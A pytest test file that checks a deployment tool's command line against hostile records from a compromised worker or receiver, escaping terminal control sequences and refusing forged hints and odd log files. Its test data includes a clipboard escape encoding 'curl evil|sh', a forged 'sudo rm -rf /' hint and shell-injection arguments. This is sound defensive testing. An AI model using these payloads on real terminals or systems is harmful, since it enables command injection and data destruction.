"""The command line beside a worker and a receiver that somebody has taken over: their files and records do no harm."""

import json
import os
import pty
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from hookd.cli.progress import follow_deployment
from hookd.model.deployment import Deployment, Status, Step, Trigger, advance
from hookd.model.hint import Hint, HintKind
from hookd.model.redis_keys import RECORD, app_status_key, record_key
from hookd.queue.deployments import DeploymentRequest
from tests.support.installation import Installation
from tests.support.processes import python
from tests.support.typed import hookd, typed

# Puts text into the clipboard, as terminals have it (xterm's "Manipulate Selection Data").
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    """An installation with one app, a Redis, and nobody who works."""
    with Installation(tmp_path_factory.mktemp("hostile")) as installation:
        installation.add_app("shop")
        installation.start_redis()
        yield installation


def asked(shop: Installation, **changes: object) -> Deployment:
    """Request a deployment, and write `changes` into its record as a hostile receiver does."""
    answer = shop.records.request(DeploymentRequest(app="shop", trigger=Trigger.MANUAL, seconds=300))
    return shop.records.change(answer.deployment, lambda old: old.model_copy(update=changes))


def ended(shop: Installation, deployment: Deployment, **changes: object) -> Deployment:
    shop.records.change(deployment.id, lambda old: advance(old, Status.RUNNING, datetime.now(UTC)))
    return shop.records.change(deployment.id, lambda old: advance(old, Status.FAILED, datetime.now(UTC), **changes))


@pytest.mark.threat(64)
@pytest.mark.parametrize("place", ["drift", "lag", "quarantine"])
def test_forged_status_adds_no_command(shop: Installation, place: str) -> None:
    """A worker that was taken over writes the status."""
    at, forged = "2026-11-29T12:00:00Z", f"it is so{CLIPBOARD}\n  next: sudo rm -rf /"
    texts: dict[str, dict[str, object]] = {
        "drift": {"drift": forged},
        "lag": {"lag": {"commits": 1, "since": at, "verdict": "waiting", "why": forged}},
        "quarantine": {"quarantined": [{"commit": "1" * 40, "since": at, "cause": forged}]},
    }
    status = {"app": "shop", "deployed_commit": "2" * 40, **texts[place]}
    shop.records.connection.set(app_status_key("shop"), json.dumps(status))
    for command in (["status", "shop"], ["status"], ["why", "shop"]):
        printed = hookd(shop, *command).stdout
        assert not [line for line in printed.splitlines() if "rm -rf" in line and "it is so" not in line]
        assert "\x1b" not in printed
    refused = typed(shop.config_path, "deploy", "shop", "--commit", "1" * 40, "--no-wait")
    assert not [line for line in refused.stderr.splitlines() if "rm -rf" in line and "it is so" not in line]
    shop.records.connection.delete(app_status_key("shop"))


@pytest.fixture
def log(shop: Installation) -> Path:
    """Return the path of the log of the app's last deployment, which has ended."""
    record = ended(shop, asked(shop))
    path: Path = shop.config.settings.log_path("shop", record.id)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


# --- logs


@pytest.mark.threat(63)
@pytest.mark.parametrize("put", ["link", "pipe", "sparse"])
def test_only_regular_log_files_are_read(shop: Installation, log: Path, put: str) -> None:
    (victim := shop.directory / "victim").write_text("canary\n")
    match put:
        case "link":
            log.symlink_to(victim)
        case "pipe":
            os.mkfifo(log)
        case "sparse":
            log.touch()
            os.truncate(log, 3 * 1024**3)
    done = hookd(shop, "logs", log.stem)
    assert (done.returncode, done.stdout) == (1, "")
    assert f"{log} cannot be read as a log" in done.stderr and f"next: sudo ls -ld {log.parent} {log}" in done.stderr


@pytest.mark.threat(63)
def test_linked_log_directory_is_refused(shop: Installation, log: Path) -> None:
    elsewhere = shop.directory / "elsewhere"
    log.parent.rename(elsewhere)
    (elsewhere / log.name).write_text("canary\n")
    log.parent.symlink_to(elsewhere)
    done = typed(shop.config_path, "logs", log.stem)
    log.parent.unlink()
    elsewhere.rename(log.parent)
    assert (done.exit_code, done.stdout) == (1, "")


@pytest.mark.threat(64)
def test_logs_are_escaped(shop: Installation, log: Path) -> None:
    """A sign that is cut in two by the size of a piece is one sign all the same."""
    lead = "x" * (64 * 1024 - 1)
    log.write_bytes(f"{lead}ü\tz\r{CLIPBOARD}\x9b2J\u202e\n".encode() + b"\xff\xc3")
    assert typed(shop.config_path, "logs", log.stem).stdout == (
        lead + "ü\tz\\r\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x9b2J\\u202e\n\ufffd\ufffd"
    )


# --- the live view


def on_a_terminal(shop: Installation, *arguments: str) -> tuple["subprocess.Popen[bytes]", int]:
    """Run the command as a person does who sits at a wide terminal."""
    master, terminal = pty.openpty()
    environment = {**shop.environment, "TERM": "xterm", "COLUMNS": "200"}
    argv = python("-m", "hookd.cli", *arguments)
    process = subprocess.Popen(argv, env=environment, stdin=terminal, stdout=terminal, stderr=terminal)
    os.close(terminal)
    return process, master


def read_to_the_end(master: int, seen: bytes = b"") -> str:
    """Return the text on the terminal until its other end is closed, which Linux reports as an error."""
    try:
        while piece := os.read(master, 65_536):
            seen += piece
    except OSError:
        pass
    os.close(master)
    return seen.decode()


@pytest.mark.threat(64)
def test_forged_steps_are_escaped(shop: Installation) -> None:
    now = datetime.now(UTC)
    steps = tuple(
        Step(name=f"[red]{state}", started_at=now, outcome=state, detail=f"{CLIPBOARD}[bold]")
        for state in ("running", "done")
    )
    deployment = asked(shop, steps=steps)
    process, master = on_a_terminal(shop, "update", "shop")
    try:
        seen = b""
        while b"[red]running" not in seen or b"[red]done" not in seen:
            seen += os.read(master, 65_536)
        ended(shop, deployment, cause=CLIPBOARD)
        text = read_to_the_end(master, seen)
        assert process.wait(30) == 1
    finally:
        process.kill()
        process.wait()
    assert "\x1b]52" not in text
    assert r"\x1b]52;c;" in text and "[bold]" in text


@pytest.mark.threat(64)
def test_json_is_escaped(shop: Installation) -> None:
    """JSON has a notation for characters below 0x20. Terminals also obey those from 0x80 to 0x9f."""
    asked(shop, subject="\x9b2J\u202e")
    done = typed(shop.config_path, "deploy", "shop", "--no-wait", "--json")
    assert json.loads(done.stdout)["subject"] == "\x9b2J\u202e"
    assert done.stdout.isascii()


class HostileReceiver(BaseHTTPRequestHandler):
    """Answers a push with what steers a terminal."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        body = json.dumps({"status": CLIPBOARD, "deployment": f"[red]{CLIPBOARD}", "status_url": CLIPBOARD}).encode()
        self.send_response(202)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Discard log lines."""


def test_receiver_answers_are_escaped(shop: Installation) -> None:
    public = shop.directory / "public.toml"
    text = shop.config_path.read_text()
    public.write_text(text.replace("[receiver]\n", '[receiver]\npublic_url = "http://h.example.org"\n'))
    with HTTPServer(("127.0.0.1", shop.port), HostileReceiver) as server, ThreadPoolExecutor() as beside:
        answering = beside.submit(server.handle_request)
        done = typed(public, "send", "shop", "--wait")
        answering.result()
    assert "\x1b" not in done.stdout + done.stderr
    assert done.stdout.count(r"\x1b]52;c;") == 5
    assert (done.exit_code, "there is no deployment" in done.stderr) == (1, True)


# --- what to type next


@pytest.mark.threat(65)
@pytest.mark.parametrize(
    "hint",
    [
        {"kind": "uninstall"},
        {"kind": "show_disk_space", "argument": "/srv >/etc/passwd"},
        {"kind": "show_disk_space", "argument": "/srv\n"},
        {"kind": "show_unit_log", "argument": "shop.service --lines 50\ncurl evil|sh"},
        {"kind": "show_app", "argument": CLIPBOARD},
    ],
)
def test_forged_hints_are_not_shown(shop: Installation, hint: object, capsys: pytest.CaptureFixture[str]) -> None:
    deployment = ended(shop, asked(shop))
    key = record_key(deployment.id)
    record = json.loads(shop.records.connection.hget(key, RECORD) or b"")
    shop.records.connection.hset(key, RECORD, json.dumps({**record, "hint": hint}))
    follow_deployment(shop.config, shop.records, deployment.id)
    assert capsys.readouterr().out.splitlines()[1:] == [f"  next: hookd logs {deployment.id}"]


@pytest.mark.threat(65)
def test_worker_hints_are_shown(shop: Installation, capsys: pytest.CaptureFixture[str]) -> None:
    deployment = ended(shop, asked(shop), hint=Hint(HintKind.SHOW_UNIT_LOG, "shop-blue.service"))
    follow_deployment(shop.config, shop.records, deployment.id)
    assert capsys.readouterr().out.endswith("\n  next: journalctl --unit shop-blue.service --lines 50\n")
